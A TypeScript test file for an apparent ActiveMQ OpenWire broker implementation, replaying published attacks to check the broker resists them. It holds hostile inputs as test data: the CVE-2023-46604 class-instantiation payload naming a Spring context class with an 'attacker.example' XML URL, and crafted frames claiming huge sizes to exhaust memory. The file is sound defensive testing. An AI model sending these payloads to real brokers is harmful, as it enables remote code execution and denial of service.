/** Published attacks on ActiveMQ over OpenWire, tried here; docs/security.md has them all. */
import { BrokerError, decodePropertyMap } from '@hermod/model'
import { describe, expect, it } from 'vitest'
import { BrokerInfo, ConnectionInfo, ExceptionResponse } from '../../src/generated/commands.js'
import { BlockPool, OutBuffer } from '../../src/out-buffer.js'
import { defaultPreferences, wireFormatInfo } from '../../src/preferences.js'
import { Encoder } from '../../src/wire-format.js'
import { settings } from '../golden.js'
import { Bench } from './bench.js'
import { connectionId } from './names.js'

const EVIL = 'org.springframework.context.support.ClassPathXmlApplicationContext'
const HUGE = 0x7fff_fff0

/** More than this was never needed for a few hundred bytes. */
const MODEST_BYTES = 64 * 1024 * 1024

async function grownBy(work: () => unknown): Promise<number> {
  const before = process.memoryUsage()
  await work()
  const after = process.memoryUsage()
  return after.arrayBuffers + after.heapUsed - before.arrayBuffers - before.heapUsed
}

function bytesOf(command: Parameters<Encoder['encode']>[0]): Buffer {
  const out = new OutBuffer(new BlockPool())
  new Encoder(settings(12, false, false)).encode(command, out)
  return Buffer.from(out.toBytes())
}

/** A loose frame of a command: size, type, body. */
function frame(type: number, ...body: number[]): Buffer {
  const bytes = Buffer.from([0, 0, 0, 0, type, ...body])
  bytes.writeUInt32BE(bytes.length - 4)
  return bytes
}

const int = (value: number): number[] => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255]

describe('a broker is not moved by', () => {
  it('CVE-2023-46604: a throwable that names a class to be made; names are text and nothing else', async () => {
    const bench = new Bench()
    const peer = await bench.connected()
    peer.send(
      new ExceptionResponse({
        correlationId: 1,
        exception: { className: EVIL, message: 'http://attacker.example/evil.xml' },
      }),
    )
    await bench.settle()
    // It is an answer to a question that nobody asked, and that is all it is.
    expect(peer.isClosed).toBe(false)
    expect(peer.received).toEqual([])
    expect(bench.log.lines.map(({ text }) => text).join()).not.toContain(EVIL)
  })

  it('CVE-2025-27533: a buffer said to be larger than the frame that it is in; nothing of that size is made', async () => {
    const bench = new Bench()
    const peer = await bench.greeted({ tightEncodingEnabled: false, cacheEnabled: false })
    // ConnectionInfo: command id, response flag, a ConnectionId whose text claims to go on for ever.
    const attack = frame(3, ...int(1), 1, 1, 120, 1, 0xff, 0xff)
    const grown = await grownBy(() => {
      peer.sendBytes(attack)
      return bench.settle()
    })
    expect(peer.isClosed).toBe(true)
    expect(grown).toBeLessThan(MODEST_BYTES)
  })

  it('CVE-2025-27533: arrays and bodies of impossible size', async () => {
    for (const type of [6, 21, 22, 24, 28]) {
      const bench = new Bench()
      const peer = await bench.greeted({ tightEncodingEnabled: false, cacheEnabled: false })
      const attack = frame(type, ...int(1), 1, 1, ...int(HUGE), 1, ...int(HUGE), 1, ...int(HUGE))
      const grown = await grownBy(() => {
        peer.sendBytes(attack)
        return bench.settle()
      })
      expect(peer.isClosed, `command ${type}`).toBe(true)
      expect(grown).toBeLessThan(MODEST_BYTES)
    }
  })

  it('CVE-2026-50734: a WireFormatInfo whose properties claim to be huge, before anybody has logged in', async () => {
    const good = bytesOf(wireFormatInfo(defaultPreferences))
    const sizeAt = good.indexOf('ActiveMQ', 0, 'latin1') + 8 + 4 + 1
    const bad = Buffer.from(good)
    bad.writeInt32BE(HUGE, sizeAt)
    const bench = new Bench()
    const peer = bench.dial()
    const grown = await grownBy(() => {
      peer.sendBytes(bad)
      return bench.settle()
    })
    expect(peer.isClosed).toBe(true)
    expect(grown).toBeLessThan(MODEST_BYTES)
    expect(bench.warnings()).toHaveLength(1)
  })

  it('CVE-2026-53917: a property map that claims to have billions of entries, or a long string', async () => {
    const claims = [
      Buffer.from(int(HUGE)),
      Buffer.from([...int(1), 0, 1, 97, 10, ...int(HUGE)]), // a byte array
      Buffer.from([...int(1), 0, 1, 97, 13, ...int(HUGE)]), // a long string
      Buffer.from([...int(1), 0, 1, 97, 11, ...int(HUGE)]), // a map inside
      Buffer.from([...int(1), 0, 1, 97, 12, ...int(HUGE)]), // a list inside
    ]
    const grown = await grownBy(() => {
      for (const bytes of claims) expect(() => decodePropertyMap(bytes)).toThrow()
    })
    expect(grown).toBeLessThan(MODEST_BYTES)
  })

  it('CVE-2026-49270: BrokerInfo before a login; nobody is told of durable subscriptions', async () => {
    const bench = new Bench()
    const peer = await bench.greeted()
    const before = peer.received.length
    peer.send(
      new BrokerInfo({ networkConnection: true, networkProperties: 'syncDurableSubs=true', responseRequired: true }),
    )
    await bench.settle()
    const names = peer.names().slice(before)
    expect(names.filter((name) => name.includes('Subscription'))).toEqual([])
    expect(JSON.stringify(peer.received.slice(before))).not.toMatch(/subscri/i)
  })

  it('CVE-2026-50750: BrokerInfo sent over and over; nothing of them is kept', async () => {
    const bench = new Bench()
    const peer = await bench.greeted()
    const command = new BrokerInfo({ brokerName: 'x'.repeat(10_000), networkConnection: true })
    for (let i = 0; i < 200; i++) peer.send(command)
    await bench.settle()
    globalThis.gc?.()
    const before = process.memoryUsage().heapUsed
    for (let i = 0; i < 5000 && !peer.isClosed; i++) peer.send(command)
    await bench.settle()
    // 50 MB were sent; keeping them would show.
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(40 * 1024 * 1024)
    expect(bench.broker.connections).toEqual([])
  })

  it('a frame too large for any command that comes before a login, and takes it afterwards', async () => {
    const large = Buffer.alloc(9 * 1024 * 1024)
    large.writeUInt32BE(large.length - 4)
    const bench = new Bench()
    const stranger = await bench.greeted()
    stranger.sendBytes(large.subarray(0, 100))
    await bench.settle()
    expect(stranger.isClosed).toBe(true)
    expect(bench.warnings().join()).toContain('is larger than')
    const friend = await bench.connected()
    friend.sendBytes(large.subarray(0, 100))
    await bench.settle()
    expect(friend.isClosed).toBe(false)
  })

  it('an error tells its class and message, and nothing of the insides [F7.041]', async () => {
    const bench = new Bench()
    const cause = new Error('the insides')
    bench.broker.connectError = new BrokerError('CODE', 'refused', 'java.lang.SecurityException', false, { cause })
    const peer = await bench.greeted()
    peer.send(new ConnectionInfo({ commandId: 1, responseRequired: true, connectionId, clientId: 'c' }))
    await bench.settle()
    const answer = peer.received.find((command) => command instanceof ExceptionResponse)
    expect(answer?.exception).toMatchObject({
      className: 'java.lang.SecurityException',
      message: 'refused',
      stackTrace: [],
      cause: null,
    })
  })

  it('a login that names no connection is refused', async () => {
    const bench = new Bench()
    const peer = await bench.greeted()
    peer.send(new ConnectionInfo({ userName: 'u' }))
    await bench.settle()
    expect(peer.isClosed || /Exception|Error/.test(peer.names().join())).toBe(true)
    expect(bench.broker.connections).toEqual([])
  })
})
